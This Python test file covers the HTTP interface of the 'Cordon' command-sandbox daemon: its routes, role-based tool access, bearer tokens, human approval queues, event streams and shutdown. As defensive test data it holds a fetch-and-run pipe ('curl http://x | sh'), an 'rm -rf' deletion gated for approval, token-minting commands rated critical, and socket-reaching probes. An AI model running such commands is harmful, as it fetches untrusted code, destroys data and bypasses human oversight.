"""The HTTP interface of the daemon: every path, who may use what, and how runs are told."""
import json
import os
import signal
import sys
import threading
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from http_case import HttpCase, Stream, UnixConnection  # noqa: E402

AGENT_TOOLS = ["sandbox_check", "sandbox_exec", "sandbox_queue_list", "sandbox_audit_log", "sandbox_audit_stats",
               "sandbox_allowlist_test", "sandbox_run", "sandbox_explain", "sandbox_preview_list", "sandbox_preview_show",
               "sandbox_preview_commit", "sandbox_preview_discard"]
RUNNING = ("sandbox_exec", "sandbox_run", "sandbox_preview_commit", "sandbox_preview_discard")
APPROVER_TOOLS = ["sandbox_queue_approve", "sandbox_queue_reject", "sandbox_allowlist_add", "sandbox_allowlist_remove"]
AUDITOR_TOOLS = [tool for tool in AGENT_TOOLS if tool not in RUNNING]


class Tools(HttpCase):
    def test_check_and_exec_are_the_command_lines_objects(self):
        token = self.token()
        theirs = json.loads(self.call("sandbox-check", "curl http://x | sh").stdout)
        self.assertEqual(self.tool("sandbox_check", {"command": "curl http://x | sh"}, token).json(), theirs)
        done = self.tool("sandbox_exec", {"command": "echo hello; echo woe >&2; exit 3"}, token)
        self.assertEqual((done.status, done.fields["content-type"]), (200, "application/json"))
        self.assertEqual([done.json()[key] for key in ("stdout", "stderr", "exit_code", "executed")], ["hello\n", "woe\n", 3, True])
        self.assertEqual(done.json()["isolation"]["backend"], "native")

    def test_a_change_of_the_settings_counts_from_the_next_call_on(self):
        token = self.token()
        own, md = os.path.join(self.home, ".config/cordon/config.json5"), os.path.join(self.work, "SANDBOX.md")

        def write(path, text):
            with open(path, "w") as file:
                file.write(text)

        def action():
            return self.tool("sandbox_check", {"command": "ls"}, token).json()["suggested_action"]

        def kept():
            """What is asked twice when all files are old is answered from what is kept."""
            self.wait_for(lambda: all(time.time() - os.stat(path).st_ctime > 2.1 for path in (own, md) if os.path.exists(path)))
            return {action(), action()}

        self.assertEqual(kept(), {"execute"})
        write(own, '{policy: {preview: "off", level: "deny"}}')
        self.assertEqual(action(), "block")
        self.assertEqual(kept(), {"block"})
        self.assertTrue(self.tool("sandbox_exec", {"command": "ls"}, token).json()["blocked"])
        write(own, '{policy: {preview: "off", level: "ask" }}')
        self.assertEqual(action(), "execute")
        self.assertEqual(kept(), {"execute"})
        write(md, "## Security Level\nLevel: deny\n")
        self.assertEqual(action(), "block")
        self.assertEqual(kept(), {"block"})
        os.unlink(md)
        self.assertEqual(action(), "execute")
        write(own, "{policy: {level: 'nothing'}}")
        self.assertEqual(self.tool("sandbox_check", {"command": "ls"}, token).status, 400)
        self.assertEqual(self.tool("sandbox_exec", {"command": "touch ran"}, token).status, 400)
        self.assertFalse(self.exists("ran"))

    def test_a_dangerous_command_waits_for_a_person_and_then_runs(self):
        token, approver = self.token(), self.token("approver")
        os.mkdir(os.path.join(self.work, "build"))
        waiting = self.tool("sandbox_exec", {"command": "rm -rf build"}, token).json()
        self.assertTrue(waiting["queued"])
        self.assertTrue(self.exists("build"))
        said = self.tool("sandbox_queue_approve", {"id": waiting["queue_id"], "approved_by": "eve"}, approver)
        self.assertEqual(said.status, 200, said.body)
        self.assertTrue(self.tool("sandbox_exec", {"command": "rm -rf build"}, token).json()["success"])
        self.assertFalse(self.exists("build"))
        decided = [line for line in self.records() if line["kind"] == "approval.decided"]
        # The name is the request's, the token is what was shown.
        self.assertIn("eve (tok_", json.dumps(decided[-1]))

    def test_code_runs_and_a_session_lives_from_one_call_to_the_next(self):
        token, other = self.token(), self.token("agent", "--agent", "other")
        run = lambda code, who: self.tool("sandbox_run", {"language": "js", "code": code, "session": "s"}, who).json()
        run("var kept = 7", token)
        self.assertEqual(run("kept", token)["output"], "7")
        self.assertFalse(run("kept", other)["success"])

    def test_wrong_arguments_name_what_is_wrong(self):
        token = self.token()
        for body, word in (({}, "command"), ({"command": 5}, "command"), ({"comand": "x"}, "comand"), ("[]", "object"),
                           ("{", "JSON"), ("[" * 5000, "JSON"), ("\xff", "JSON")):
            reply = self.ask("POST", "/v1/tools/sandbox_check", body if not isinstance(body, str) else body.encode("latin-1"), token)
            self.assertEqual((reply.status, reply.error()["code"]), (400, "invalid_input"), reply.body)
            self.assertIn(word, reply.error()["message"])
            self.assertTrue(reply.error()["fix"])

    def test_the_workspace_is_the_tokens(self):
        there = os.path.join(self.dir, "elsewhere")
        os.makedirs(os.path.join(there, ".cordon"))
        token = self.token("agent", "--workspace", there)
        self.assertEqual(self.tool("sandbox_exec", {"command": "pwd"}, token).json()["stdout"], there + "\n")
        out = self.tool("sandbox_exec", {"command": "pwd", "working_dir": self.work}, token)
        self.assertEqual(out.status, 400)
        self.assertIn("outside the workspace", out.error()["message"])

    def test_keep_alive_serves_many_requests_and_pipelined_ones_in_order(self):
        token = self.token()
        connection = self.connection()
        for n in range(20):
            self.assertEqual(self.tool("sandbox_exec", {"command": f"echo {n}"}, token, connection=connection).json()["stdout"], f"{n}\n")
        connection.close()
        bodies = [json.dumps({"command": f"echo {n}"}).encode() for n in range(3)]
        last = [{}, {}, {"Connection": "close"}]
        received = self.raw(b"".join(self.head("/v1/tools/sandbox_exec", token, Content_Length=len(b), **more) + b for b, more in zip(bodies, last)))
        self.assertEqual(received.count(b"HTTP/1.1 200"), 3)
        places = [received.index(b'"stdout":"%d\\n"' % n) for n in range(3)]
        self.assertEqual(places, sorted(places))


class Paths(HttpCase):
    def test_health_needs_nothing_and_tells_nothing(self):
        reply = self.ask("GET", "/healthz")
        self.assertEqual((reply.status, reply.json()["status"]), (200, "ok"))

    def test_unknown_paths_and_methods(self):
        token = self.token()
        for method, path, status in (("GET", "/", 404), ("GET", "/v1", 404), ("GET", "/healthz/", 404), ("POST", "/healthz", 405),
                                     ("GET", "/v1/tools/sandbox_check", 405), ("PUT", "/v1/tools/sandbox_check", 405),
                                     ("GET", "/mcp", 405), ("OPTIONS", "/mcp", 405), ("GET", "/v1/../healthz", 404),
                                     ("GET", "/%68ealthz", 404), ("POST", "/v1/tools/", 404), ("POST", "/v1/tools/x/y", 404)):
            with self.subTest(path):
                reply = self.ask(method, path, {} if method == "POST" else None, token)
                self.assertEqual(reply.status, status, reply.body)
                self.assertEqual(list(reply.error()), ["code", "message", "fix"])

    def test_metrics_are_for_auditor_and_approver(self):
        auditor, agent = self.token("auditor"), self.token()
        self.tool("sandbox_exec", {"command": "true"}, agent)
        self.queue_as(agent)
        self.assertEqual(self.ask("GET", "/metrics", token=agent).status, 403)
        reply = self.ask("GET", "/metrics", token=auditor)
        self.assertTrue(reply.fields["content-type"].startswith("text/plain; version=0.0.4"))
        values = {}
        for line in reply.body.splitlines():
            if not line.startswith("#"):
                name, _, value = line.rpartition(" ")
                values[name] = float(value)
        self.assertEqual(values["cordon_queue_pending"], 1)
        self.assertEqual(values['cordon_tool_calls_total{tool="sandbox_exec"}'], 2)
        self.assertEqual(values['cordon_http_responses_total{route="/v1/tools/",status="200"}'], 2)
        self.assertEqual(values['cordon_http_request_seconds_count{route="/v1/tools/"}'], 2)
        self.assertGreaterEqual(values["cordon_http_connections"], 1)

    def test_a_body_that_is_not_json_by_its_type_is_refused(self):
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
            reply = self.ask("POST", "/v1/tools/sandbox_check", '{"command":"ls"}', self.token(), {"Content-Type": kind})
            self.assertEqual(reply.status, 415)


class Roles(HttpCase):
    def tools_of(self, token):
        paths = self.ask("GET", "/v1/openapi.json", token=token).json()["paths"]
        return [path.removeprefix("/v1/tools/") for path in paths if path.startswith("/v1/tools/")]

    def test_each_role_has_its_tools_and_others_do_not_exist(self):
        for role, tools in (("agent", AGENT_TOOLS), ("auditor", AUDITOR_TOOLS), ("approver", AGENT_TOOLS + APPROVER_TOOLS)):
            token = self.token(role)
            self.assertEqual(sorted(self.tools_of(token)), sorted(tools))
            for name in set(AGENT_TOOLS + APPROVER_TOOLS) - set(tools):
                with self.subTest(f"{role} {name}"):
                    refused, unknown = self.tool(name, {}, token), self.tool("sandbox_nothing", {}, token)
                    self.assertEqual((refused.status, refused.body), (404, unknown.body))

    def test_without_a_token_nothing(self):
        wrong = "cordon_tok_" + "0" * 16 + "_" + "0" * 64
        for fields in ({}, {"Authorization": "Bearer"}, {"Authorization": "Bearer x"}, {"Authorization": "Basic x"},
                       {"Authorization": f"Bearer {wrong}"}, {"Authorization": f"Bearer {self.token()}x"},
                       {"Authorization": f"Bearer {self.token()[:-1]}"}, {"Authorization": f"Bearer {self.token()} {self.token()}"}):
            for method, path in (("POST", "/v1/tools/sandbox_check"), ("GET", "/v1/events"), ("GET", "/metrics"),
                                 ("GET", "/v1/openapi.json"), ("POST", "/mcp"), ("GET", "/nowhere")):
                reply = self.ask(method, path, {} if method == "POST" else None, fields=fields)
                self.assertEqual(reply.status, 401, f"{path} {fields}")
                self.assertIn("Bearer", reply.fields["www-authenticate"])

    def test_the_approvers_own_token_is_no_bearer(self):
        reply = self.tool("sandbox_check", {"command": "ls"}, self.approver["CORDON_APPROVER_TOKEN"])
        self.assertEqual(reply.status, 401)

    def test_a_revoked_and_an_expired_token_do_not_count(self):
        token = self.token()
        self.assertEqual(self.tool("sandbox_check", {"command": "ls"}, token).status, 200)
        name = "_".join(token.split("_")[1:3])
        self.call("cordon", "token", "revoke", name, expect=0)
        self.assertEqual(self.tool("sandbox_check", {"command": "ls"}, token).status, 401)
        self.assertEqual(self.call("cordon", "token", "revoke", name).returncode, 1)
        short = self.token("agent", "--expires", "1s")
        self.wait_for(lambda: self.tool("sandbox_check", {"command": "ls"}, short).status == 401)
        states = {one["id"]: one["state"] for one in json.loads(self.call("cordon", "token", "list", "--json", expect=0).stdout)}
        self.assertEqual(sorted(states.values()), ["expired", "revoked"])

    def test_a_token_is_shown_once_and_kept_hashed(self):
        token = self.token("agent", "--agent", "coder", "--session", "s1", "--expires", "30d")
        with open(os.path.join(self.state, "tokens.json")) as file:
            kept = file.read()
        self.assertNotIn(token.split("_")[3], kept)
        self.assertEqual(os.stat(os.path.join(self.state, "tokens.json")).st_mode & 0o777, 0o600)
        listed = self.call("cordon", "token", "list", "--json", expect=0).stdout
        self.assertNotIn(token.split("_")[3], listed)
        one = json.loads(listed)[0]
        self.assertEqual([one[key] for key in ("role", "agent", "session", "state", "workspace")], ["agent", "coder", "s1", "valid", os.path.realpath(self.work)])
        self.assertNotIn(token.split("_")[3], json.dumps(self.records()))

    def test_making_a_token_needs_presence(self):
        for role in ("agent", "approver", "auditor"):
            done = self.call("cordon", "token", "create", "--role", role)
            self.assertEqual((done.returncode, done.stdout), (126, ""), done.stderr)
        self.assertFalse(os.path.exists(os.path.join(self.state, "tokens.json")))
        # Nor through Cordon.
        for command in ("cordon token create --role agent", "cordon token revoke tok_0", "cordon token list"):
            judged = self.tool("sandbox_check", {"command": command}, self.token()).json()
            self.assertEqual(judged["risk_level"], "critical", command)

    def test_a_damaged_token_file_lets_nobody_in(self):
        token = self.token()
        with open(os.path.join(self.state, "tokens.json"), "r+") as file:
            text = file.read()
            file.seek(0)
            file.write(text[:-20])
            file.truncate()
        self.assertEqual(self.tool("sandbox_check", {"command": "ls"}, token).status, 500)
        self.assertEqual(self.call("cordon", "token", "create", "--role", "agent", env=self.approver).returncode, 1)

    def test_agent_and_session_are_the_tokens_and_not_the_requests(self):
        token = self.token("agent", "--agent", "coder", "--session", "task-1")
        for fields in ({}, {"X-Agent": "boss", "Cordon-Session": "other"}):
            self.tool("sandbox_exec", {"command": "echo hi"}, token, fields=fields)
        self.assertEqual(self.tool("sandbox_exec", {"command": "echo hi", "agent": "boss"}, token).status, 400)
        runs = [line for line in self.records() if line["kind"] == "outcome"]
        self.assertEqual({(line["agent"], line["session"]) for line in runs}, {("coder", "task-1")})

    def test_an_agent_sees_only_its_own_queue_and_log(self):
        coder, other = self.token("agent", "--agent", "coder"), self.token("agent", "--agent", "other")
        mine = self.queue_as(coder)
        entries = lambda token: [one["id"] for one in self.tool("sandbox_queue_list", {"status": "all"}, token).json()["entries"]]
        self.assertEqual(entries(coder), [mine])
        self.assertEqual(entries(other), [])
        self.assertEqual(entries(self.token("agent", "--agent", "coder", "--session", "another")), [])
        self.assertEqual(entries(self.token("auditor")), [mine])
        self.assertEqual(self.tool("sandbox_audit_log", {}, other).json()["count"], 0)
        # Nor can it use another's approval.
        self.call("sandbox-queue", "approve", mine, env=self.approver, expect=0)
        used = self.tool("sandbox_exec", {"command": "rm -rf build", "approval": mine}, other).json()
        self.assertFalse(used.get("executed"), used)

    def test_a_tool_that_the_policy_denies_does_not_exist(self):
        os.makedirs(os.path.join(self.home, ".config/cordon"), exist_ok=True)
        with open(os.path.join(self.home, ".config/cordon/config.json5"), "w") as file:
            file.write("{tools: {deny: ['exec']}}")
        token = self.token()
        self.assertEqual(self.tool("sandbox_exec", {"command": "ls"}, token).status, 404)
        self.assertNotIn("sandbox_exec", self.tools_of(token))


class Unix(HttpCase):
    options = ()

    def over_unix(self, method, path, body=None, token=None, fields=None):
        connection = UnixConnection(self.unix, 60)
        try:
            return self.ask(method, path, body, token, fields, connection)
        finally:
            connection.close()

    def test_the_peer_is_an_agent_without_a_token(self):
        self.assertEqual(os.stat(self.unix).st_mode & 0o777, 0o600)
        self.assertEqual(os.stat(os.path.dirname(self.unix)).st_mode & 0o777, 0o700)
        done = self.over_unix("POST", "/v1/tools/sandbox_exec", {"command": "pwd"})
        self.assertEqual(done.json()["stdout"], os.path.realpath(self.work) + "\n")
        self.assertEqual(self.over_unix("POST", "/v1/tools/sandbox_queue_approve", {}).status, 404)
        self.assertEqual(self.over_unix("POST", "/v1/tools/sandbox_queue_approve", {"id": "cmd_x", "approved_by": "x"}, self.token("approver")).status, 400)
        self.assertEqual(self.over_unix("POST", "/v1/tools/sandbox_exec", {"command": "pwd"}, "cordon_wrong").status, 401)

    def test_a_page_can_not_use_it(self):
        self.assertEqual(self.over_unix("POST", "/v1/tools/sandbox_check", {"command": "ls"}, fields={"Origin": "http://localhost"}).status, 403)

    @unittest.skipUnless(os.getuid() == 0, "needs root to become another user")
    def test_another_user_gets_nothing(self):
        os.chmod(self.unix, 0o666)
        for place in (self.dir, self.runtime, os.path.dirname(self.unix)):
            os.chmod(place, 0o755)
        code = ("import os, socket, sys\nos.setgid(65534); os.setuid(65534)\ns = socket.socket(socket.AF_UNIX)\n"
                "s.connect(sys.argv[1])\ntry:\n s.sendall(b'GET /healthz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n print(s.recv(100))\nexcept OSError: print(b'')")
        self.assertEqual(self.call(sys.executable, "-c", code, self.unix, cwd="/").stdout.strip(), "b''")

    def test_a_sandbox_does_not_reach_it(self):
        code = f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({self.unix!r})\nprint('reached')"
        self.write("reach.py", code)
        done = self.over_unix("POST", "/v1/tools/sandbox_exec", {"command": "/usr/bin/python3 reach.py"}).json()
        self.assertTrue(done["executed"], done)
        self.assertNotIn("reached", done["stdout"])
        # Whoever is in another user namespace with our uid is a sandbox's process.
        probe = ("import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(60)\ns.connect(sys.argv[1])\n"
                 "try:\n s.sendall(b'GET /healthz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n print(s.recv(100))\nexcept OSError: print(b'')")
        self.assertIn("200 OK", self.call(sys.executable, "-c", probe, self.unix).stdout)
        self.assertEqual(self.call("unshare", "-r", sys.executable, "-c", probe, self.unix).stdout.strip(), "b''")


class Streams(HttpCase):
    def test_output_comes_while_the_command_runs(self):
        token = self.token()
        stream = Stream(self, "POST", "/v1/tools/sandbox_exec", {"command": "echo one; until [ -e go ]; do sleep 0.05; done; printf 'gr\\303'; sleep 0.1; printf '\\274n' >&1; echo woe >&2"}, token)
        self.assertEqual((stream.status, stream.fields["content-type"]), (200, "text/event-stream"))
        while True:
            event, data, _ = stream.next()
            if event == "output":
                break
            self.assertEqual(event, "progress")
        self.assertEqual(json.loads(data), {"stream": "stdout", "text": "one\n"})
        self.write("go", "")
        events = stream.rest()
        out = "".join(json.loads(d)["text"] for e, d, _ in events if e == "output" and json.loads(d)["stream"] == "stdout")
        self.assertEqual(out, "grün", "a character that came in two pieces is one")
        self.assertIn({"stream": "stderr", "text": "woe\n"}, [json.loads(d) for e, d, _ in events if e == "output"])
        self.assertEqual(events[-1][0], "result")
        self.assertEqual(json.loads(events[-1][1])["stdout"], "one\ngrün")

    def test_code_and_errors_and_waiting_are_streamed_too(self):
        token = self.token()
        events = Stream(self, "POST", "/v1/tools/sandbox_run", {"language": "python", "code": "print('hi')"}, token).rest()
        self.assertEqual(events[-1][0], "result")
        self.assertIn("hi", "".join(json.loads(d)["text"] for e, d, _ in events if e == "output"))
        wrong = Stream(self, "POST", "/v1/tools/sandbox_exec", {"command": "ls", "working_dir": "/"}, token).rest()
        self.assertEqual((wrong[-1][0], json.loads(wrong[-1][1])["code"]), ("error", "invalid_input"))
        held = Stream(self, "POST", "/v1/tools/sandbox_exec", {"command": "rm -rf build", "wait": 60000}, token)
        event, data, _ = held.next()
        self.assertEqual(event, "progress")
        entry = json.loads(data)["message"].split("approve ")[1]
        self.call("sandbox-queue", "reject", entry, "--reason", "no", expect=0)
        self.assertIn("no", held.rest()[-1][1])

    def test_events_tell_each_what_concerns_it(self):
        coder, other, auditor = self.token("agent", "--agent", "coder"), self.token("agent", "--agent", "other"), self.token("auditor")
        listening = {name: Stream(self, "GET", "/v1/events", token=token) for name, token in (("coder", coder), ("other", other), ("auditor", auditor))}
        for stream in listening.values():
            self.assertIsNotNone(stream.comment())
        self.tool("sandbox_exec", {"command": "echo mine"}, coder)
        entry = self.queue_as(coder)
        self.tool("sandbox_exec", {"command": "echo theirs"}, other)
        kinds = [json.loads(listening["coder"].next()[1])["kind"] for _ in range(3)]
        self.assertEqual(kinds, ["intent", "outcome", "approval.requested"])
        first = listening["other"].next()
        self.assertEqual((first[0], json.loads(first[1])["command"]), ("run", "echo theirs"))
        # What a person does elsewhere is told too.
        self.call("sandbox-queue", "reject", entry, "--reason", "no", expect=0)
        event, data, number = listening["coder"].next()
        self.assertEqual((event, json.loads(data)["kind"]), ("queue", "approval.decided"))
        self.assertEqual(int(number), json.loads(data)["seq"])
        seen = [json.loads(listening["auditor"].next()[1])["command"] for _ in range(6)]
        self.assertIn("echo theirs", seen)
        self.assertIn("echo mine", seen)
        for stream in listening.values():
            stream.close()

    def test_events_end_for_a_token_that_is_revoked(self):
        token, other = self.token("agent", "--agent", "coder"), self.token("agent", "--agent", "coder")
        stream = Stream(self, "GET", "/v1/events", token=token)
        stream.comment()
        self.call("cordon", "token", "revoke", "_".join(token.split("_")[1:3]), expect=0)
        self.tool("sandbox_exec", {"command": "echo secret"}, other)
        self.assertEqual(stream.rest(), [])

    def test_a_client_that_goes_takes_its_command_along(self):
        token = self.token()
        for accept in ("application/json", "text/event-stream"):
            mark = f"{time.monotonic_ns()}"
            connection = self.connection()
            connection.request("POST", "/v1/tools/sandbox_exec", json.dumps({"command": f"(setsid sleep {mark} &); sleep {mark}"}),
                               {"Authorization": f"Bearer {token}", "Content-Type": "application/json", "Accept": accept})
            self.wait_for(lambda: self.running(mark) >= 2)
            connection.sock.close() if accept == "application/json" else connection.close()
            self.wait_for(lambda: self.running(mark) == 0)
            self.wait_for(lambda: [line["status"] for line in self.records() if line["kind"] == "outcome" and mark in line["command"]] == ["killed"])


class End(HttpCase):
    def test_the_end_waits_for_what_runs(self):
        token = self.token()
        events = Stream(self, "GET", "/v1/events", token=token)
        events.comment()
        idle = self.connection()
        idle.connect()
        answers = []
        command = {"command": "touch begun; until [ -e go ]; do sleep 0.05; done; echo done"}
        asking = threading.Thread(target=lambda: answers.append(self.tool("sandbox_exec", command, token)))
        asking.start()
        self.wait_for(lambda: self.exists("begun"))
        self.daemon.send_signal(signal.SIGTERM)
        while events.next() is not None:  # ended by the server
            pass
        with self.assertRaises(OSError):
            self.ask("GET", "/healthz")
        self.write("go", "")
        asking.join()
        self.assertEqual(answers[0].json()["stdout"], "done\n")
        self.assertEqual(self.stop_daemon(0), 0)
        idle.close()
        self.assertFalse(os.path.exists(self.unix))

    def test_after_the_grace_it_is_killed_answered_and_recorded(self):
        self.restart(*self.options, "--grace", "200ms")
        token = self.token()
        mark = f"{time.monotonic_ns()}"
        answers = []
        asking = threading.Thread(target=lambda: answers.append(self.tool("sandbox_exec", {"command": f"sleep {mark}"}, token)))
        asking.start()
        self.wait_for(lambda: self.running(mark) >= 1)
        self.assertEqual(self.stop_daemon(), 0)
        asking.join()
        self.assertEqual(self.running(mark), 0)
        self.assertEqual(answers[0].json()["killed_by"], "signal")
        self.assertEqual([line["status"] for line in self.records() if line["kind"] == "outcome"], ["killed"])
        self.assertEqual(self.verify().returncode, 0)

    def test_a_second_signal_ends_it_at_once(self):
        token = self.token()
        mark = f"{time.monotonic_ns()}"
        asking = threading.Thread(target=lambda: self.tool("sandbox_exec", {"command": f"sleep {mark}"}, token))
        asking.start()
        self.wait_for(lambda: self.running(mark) >= 1)
        self.daemon.send_signal(signal.SIGTERM)
        self.wait_for(lambda: not os.path.exists(self.unix))
        self.assertEqual(self.stop_daemon(), 0)
        asking.join()
        self.assertEqual(self.running(mark), 0)


if __name__ == "__main__":
    unittest.main(verbosity=2)
